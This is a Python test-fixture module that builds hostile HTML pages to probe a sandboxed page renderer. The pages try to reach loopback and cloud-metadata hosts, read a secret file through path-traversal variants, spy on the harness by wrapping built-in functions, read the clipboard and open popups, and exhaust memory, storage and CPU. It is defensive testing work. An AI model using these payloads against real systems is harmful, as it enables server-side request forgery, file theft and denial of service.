"""Pages of strangers who mean no good. Each tells by ``console.warn`` what it got hold of."""

from __future__ import annotations

HEAD = """<!doctype html><html><head><meta charset="utf-8">{head}</head>
<body data-composition-id="main" data-width="160" data-height="90" data-fps="10" data-duration="{duration}"
style="margin:0;background:#246"><b id="b">a</b><script>
const leak = (how, what) => console.warn('LEAK ' + how + ' ' + String(what).slice(0, 80));
const attempt = (how, work) => {{
  try {{ Promise.resolve(work()).then((got) => got && leak(how, got), () => 0) }} catch (error) {{ void error }}
}};
const add = (tag, attributes, parent = document.head) => {{
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  parent.append(made);
  return made;
}};
{script}
console.warn('TRIED');
</script></body></html>"""


def page(script: str, *, head: str = "", duration: float = 0.5) -> str:
    """A page that runs a script as it loads."""
    return HEAD.format(head=head, script=script, duration=duration)


HOSTS = ("127.0.0.1", "canary.localhost", "[::1]", "2130706433", "169.254.169.254")
NETWORK = """
const port = PORT;
const hosts = [HOSTS];
for (const host of hosts) {
  const at = 'http://' + host + ':' + port + '/';
  const taken = (answer) => answer.text().then((text) => 'read ' + at + text);
  attempt('fetch', () => fetch(at + 'fetch').then(taken));
  attempt('blind fetch', () => fetch(at + 'opaque', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}).then(() => 'answered ' + at));
  attempt('xhr', () => { const x = new XMLHttpRequest(); x.onload = () => leak('xhr', at); x.open('GET', at + 'xhr'); x.send(); });
  attempt('sync xhr', () => { const x = new XMLHttpRequest(); x.open('GET', at + 'sync', false); x.send(); return x.responseText; });
  attempt('beacon', () => { navigator.sendBeacon(at + 'beacon', 'x'); });
  attempt('socket', () => { new WebSocket('ws://' + host + ':' + port + '/ws').onopen = () => leak('socket', at); });
  attempt('events', () => { new EventSource(at + 'events').onopen = () => leak('events', at); });
  attempt('transport', () => new WebTransport('https://' + host + ':' + port + '/wt').ready.then(() => 'transport'));
  attempt('image', () => { const i = new Image(); i.src = at + 'a.png'; i.onload = () => leak('image', at); });
  attempt('module', () => import(at + 'm.js'));
  attempt('worker', () => { new Worker(at + 'w.js'); });
  for (const rel of ['stylesheet', 'prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'search'])
    add('link', {rel, href: at + rel, as: 'image'});
  add('script', {src: at + 's.js'});
  add('script', {type: 'speculationrules'}).textContent = JSON.stringify({prerender: [{source: 'list', urls: [at + 'p']}], prefetch: [{source: 'list', urls: [at + 'p']}]});
  add('style', {}).textContent = "@import url(" + at + "i.css); @font-face { font-family: x; src: url(" + at + "f.woff2) } b { font-family: x; background: url(" + at + "b.png); cursor: url(" + at + "c.cur), auto }";
  for (const tag of ['iframe', 'embed', 'frame'])
    add(tag, {src: at + tag, ping: at + 'ping'}, document.body);
  add('object', {data: at + 'object'}, document.body);
  add('a', {href: '#', ping: at + 'ping'}, document.body).click();
  const frame = add('iframe', {name: 'f' + host}, document.body);
  attempt('frame', () => { frame.contentWindow.location = at + 'location'; });
  const form = add('form', {action: at + 'form', method: 'post', target: 'f' + host}, document.body);
  attempt('form', () => form.submit());
  add('iframe', {srcdoc: '<meta http-equiv=refresh content="0;url=' + at + 'refresh"><img src="' + at + 'in.png">'}, document.body);
  const lines = ["onerror = () => true", "fetch('" + at + "inworker').then((a) => a.text()).then((t) => postMessage(t))",
    "try { importScripts('" + at + "i.js'); postMessage('imported') } catch (e) {}",
    "try { new WebSocket('ws://" + host + ':' + port + "/w').onopen = () => postMessage('socket') } catch (e) {}"];
  const blob = URL.createObjectURL(new Blob([lines.join(';')], {type: 'text/javascript'}));
  attempt('in a worker', () => { new Worker(blob).onmessage = (event) => leak('in a worker', event.data); });
  attempt('in a shared worker', () => { new SharedWorker('shared.js?' + encodeURIComponent(at)).port.onmessage = (event) => leak('in a shared worker', event.data); });
  attempt('call', () => {
    const servers = ['stun:', 'turn:'].flatMap((kind) => ['', '?transport=udp', '?transport=tcp'].map((how) => kind + host + ':' + port + (kind === 'stun:' ? '' : how)));
    const call = new RTCPeerConnection({iceServers: [{urls: [...new Set(servers)], username: 'a', credential: 'b'}]});
    call.createDataChannel('x');
    call.onicecandidate = (event) => { if (event.candidate && event.candidate.candidate) leak('call', event.candidate.candidate) };
    return call.createOffer().then((offer) => call.setLocalDescription(offer)).then(() => 0);
  });
}
attempt('service worker', () => navigator.serviceWorker.register('service.js?' + port).then(() => 0));
attempt('background', () => new BackgroundFetchManager().fetch('x', 'http://127.0.0.1:' + port + '/bg'));
"""


def network(port: int, hosts: tuple[str, ...] = HOSTS) -> str:
    """A page that tries every way to a port of some hosts, and a while longer."""
    listed = ", ".join(map(repr, hosts))
    return page(NETWORK.replace("PORT", str(port)).replace("HOSTS", listed), duration=1.0)


SHARED = """onconnect = (event) => {
  const at = decodeURIComponent(location.search.slice(1));
  fetch(at + 'shared').then((a) => a.text()).then((t) => event.ports[0].postMessage(t), () => 0);
  try { new WebSocket(at.replace('http', 'ws') + 's').onopen = () => event.ports[0].postMessage('socket') } catch (e) {}
}"""
SERVICE = """const at = 'http://127.0.0.1:' + location.search.slice(1) + '/';
try { importScripts(at + 'sw.js') } catch (e) {}
onfetch = (event) => event.respondWith(fetch(at + 'through'));
fetch(at + 'service').catch(() => 0);"""

# What our own scripts say to us goes by a name of this machine that is a secret of theirs.
SPYING = """
const {apply, construct} = Reflect, stringify = JSON.stringify, exec = RegExp.prototype.exec, secret = /[0-9a-f]{32}\\.localhost/;
let looking = false;
const looks = (how, args) => {
  if (looking) return;
  looking = true;
  try { for (let i = 0; i < args.length; i++) {
    let text = args[i];
    if (typeof text === 'object' && text) try { text = stringify(text) } catch (e) { text = '' }
    if (typeof text === 'string' && text.length < 1e5 && apply(exec, secret, [text])) leak('spied ' + how, text);
  } } finally { looking = false }
};
const wrap = (owner, name) => {
  const real = owner[name];
  try { owner[name] = new Proxy(real, {
    apply: (f, self, args) => { looks(name, args); return apply(f, self, args) },
    construct: (f, args) => { looks(name, args); return construct(f, args) }}) } catch (e) { void e }
};
for (const name of ['WebSocket', 'Worker', 'SharedWorker', 'Blob', 'URL', 'Request', 'fetch', 'postMessage', 'Function', 'eval']) wrap(window, name);
for (const [owner, names] of [[Worker.prototype, ['postMessage']], [MessagePort.prototype, ['postMessage']], [URL, ['createObjectURL']],
  [Array.prototype, ['push', 'join', 'forEach']], [String.prototype, ['replace', 'split', 'concat', 'startsWith']],
  [JSON, ['parse', 'stringify']], [Map.prototype, ['set']], [EventTarget.prototype, ['dispatchEvent']]])
  for (const name of names) wrap(owner, name);
for (const name of ['url', 'address', 'loopback', 'line'])
  Object.defineProperty(Object.prototype, name, {configurable: true, set(value) { looks('setter ' + name, [value]);
    Object.defineProperty(this, name, {value, writable: true, configurable: true, enumerable: true}) }});
addEventListener('securitypolicyviolation', (event) => looks('policy', [event.blockedURI]));
addEventListener('error', (event) => looks('error', [event.message, event.filename]), true);
new PerformanceObserver((list) => looks('timing', list.getEntries().map((one) => one.name))).observe({type: 'resource', buffered: true});
new ReportingObserver((list) => looks('report', list)).observe();
"""
SPYING_HEAD = '<meta http-equiv="Content-Security-Policy" content="connect-src \'self\'">'

FILES = """
const outside = OUTSIDE, MOST = WAYS;  // the folder around the project, and a name of each file in it
const ways = ['file://' + outside + '/', '../', '..%2f', 'up/', 'file://localhost' + outside + '/', '%2e%2e/', '..%5c', '....//', 'up%2f', '/../', '//' + outside + '/',
  outside + '/', 'up/../', './/..//', '.%2e/', '%252e%252e/', '\\\\..\\\\', 'view-source:file://' + outside + '/', 'filesystem:file://' + outside + '/', 'blob:file://' + outside + '/'];
for (const way of ways.slice(0, MOST)) {
  const marked = (text) => /S3CR3T/.test(text) && way;
  attempt('fetch', () => fetch(way + 'secret.txt').then((answer) => answer.text()).then(marked));
  attempt('xhr', () => { const x = new XMLHttpRequest(); x.onload = () => marked(x.responseText) && leak('xhr', way); x.open('GET', way + 'secret.txt'); x.send(); });
  attempt('import', () => import(way + 'secret.js').then(() => way));
  attempt('worker', () => { new Worker(way + 'secret.js').onmessage = () => leak('worker', way); });
  const image = new Image(); image.onload = () => leak('image', way); image.src = way + 'secret.png';
  add('link', {rel: 'stylesheet', href: way + 'secret.css'});
  add('style', {}).textContent = "@import url('" + way + "secret.css');";
  add('script', {src: way + 'secret.js'});
  for (const tag of ['iframe', 'embed']) {
    const frame = add(tag, {src: way + 'secret.html', width: 8, height: 8}, document.body);
    frame.onload = () => { try { if (/S3CR3T/.test(frame.contentDocument.documentElement.innerHTML)) leak(tag, way) } catch (e) {} };
  }
  add('object', {data: way + 'secret.html', width: 8, height: 8}, document.body);
  const font = new FontFace('f', "url('" + way + "secret.ttf')");
  font.load().then(() => leak('font', way), () => 0);
}
addEventListener('message', (event) => { if (event.data === 'S3CR3T') leak('message', 'from a frame') });
setInterval(() => { if (getComputedStyle(document.documentElement).getPropertyValue('--secret')) leak('style', '') ; if (window.secret) leak('script', '') }, 20);
"""

MEDIA = """<!doctype html><body data-composition-id="main" data-width="160" data-height="90" data-fps="10" data-duration="0.5"
>{tags}<p>a"""
MEDIA_TAGS = (
    '<audio src="{name}" data-start="0" data-duration="0.4"></audio>',
    '<video src="{name}" data-start="0" data-duration="0.4"></video>',
    '<video muted poster="{name}"><source src="{name}"><track default src="{name}"></video>',
)

MANNERS = """
addEventListener('load', () => setTimeout(() => {
  for (const go of [
    () => window.open('about:blank'), () => window.open('page.html', '_blank', 'popup'), () => alert('a'), () => confirm('b'), () => prompt('c'), () => print(),
    () => { const a = add('a', {href: 'data:text/plain,x', download: 'x.txt'}, document.body); a.click() },
    () => { const a = add('a', {href: URL.createObjectURL(new Blob(['x'])), download: '../../x.sh'}, document.body); a.click() },
    () => { add('a', {href: 'page.html', target: '_blank'}, document.body).click() },
    () => Notification.requestPermission(), () => navigator.geolocation.getCurrentPosition(() => leak('place', '')),
    () => navigator.clipboard.readText().then((text) => leak('clipboard', text)), () => window.close(), () => showOpenFilePicker(), () => showSaveFilePicker(), () => showDirectoryPicker(),
    () => navigator.usb.requestDevice({filters: []}), () => navigator.bluetooth.requestDevice({acceptAllDevices: true}), () => navigator.registerProtocolHandler('web+x', '/?%s'),
    () => history.pushState({}, '', '/elsewhere'), () => { onbeforeunload = () => 'stay' },
    () => navigator.mediaDevices.getDisplayMedia(), () => navigator.wakeLock.request(), () => { location = 'mailto:x@example.org' },
  ]) attempt('manners', () => Promise.resolve(go()).then(() => 0));
}, 150));
"""
HUNGRY = {
    "arrays": "const held = []; while (true) held.push(new Uint8Array(2 ** 24).fill(held.length));",
    "wasm": "const held = []; while (true) { const memory = new WebAssembly.Memory({initial: 512}); new Uint8Array(memory.buffer).fill(1); held.push(memory) }",
}
GREEDY = """
const block = new Uint8Array(2 ** 22); for (let at = 0; at < block.length; at += 65536) crypto.getRandomValues(block.subarray(at, at + 65536));
window.__never = new Promise(() => 0);
(async () => { const cache = await caches.open('x'); for (let i = 0; ; i++) await cache.put('/c' + i, new Response(block)) })().catch(() => 0);
(async () => { const root = await navigator.storage.getDirectory(); for (let i = 0; ; i++) { const file = await root.getFileHandle('o' + i, {create: true}); const out = await file.createWritable(); await out.write(block); await out.close() } })().catch(() => 0);
const asked = indexedDB.open('x'); asked.onupgradeneeded = () => asked.result.createObjectStore('s');
asked.onsuccess = () => { let i = 0; const more = () => { const put = asked.result.transaction('s', 'readwrite').objectStore('s').put(block, i++); put.onsuccess = more; put.onerror = more }; more() };
try { for (let i = 0; ; i++) localStorage.setItem('l' + i, 'x'.repeat(100000)) } catch (e) {}
"""
ENDLESS = {
    "loop": "while (true);",
    "microtasks": "const again = () => Promise.resolve().then(again); again();",
    "dialogs": "while (true) alert('again');",
    "late loop": "addEventListener('load', () => requestAnimationFrame(function more() { requestAnimationFrame(more); if (performance.now() > 150) while (true); }));",
    "timers": "const more = () => { for (let i = 0; i < 3; i++) setTimeout(more, 0) }; more();",
    "reload": "location.reload();",
    "writes": "addEventListener('load', () => { const grow = () => { document.body.append(document.createElement('p')); queueMicrotask(grow) }; grow() });",
}
FORKS = """
const source = URL.createObjectURL(new Blob(["setInterval(() => { for (let i = 0; i < 1e6; i++); }, 0); new Worker(URL.createObjectURL(new Blob(['while (true);'])))"], {type: 'text/javascript'}));
for (let i = 0; i < 3000; i++) attempt('worker', () => { new Worker(source) });
for (let i = 0; i < 200; i++) add('iframe', {srcdoc: '<script>while(0);</scr' + 'ipt>'}, document.body);
"""
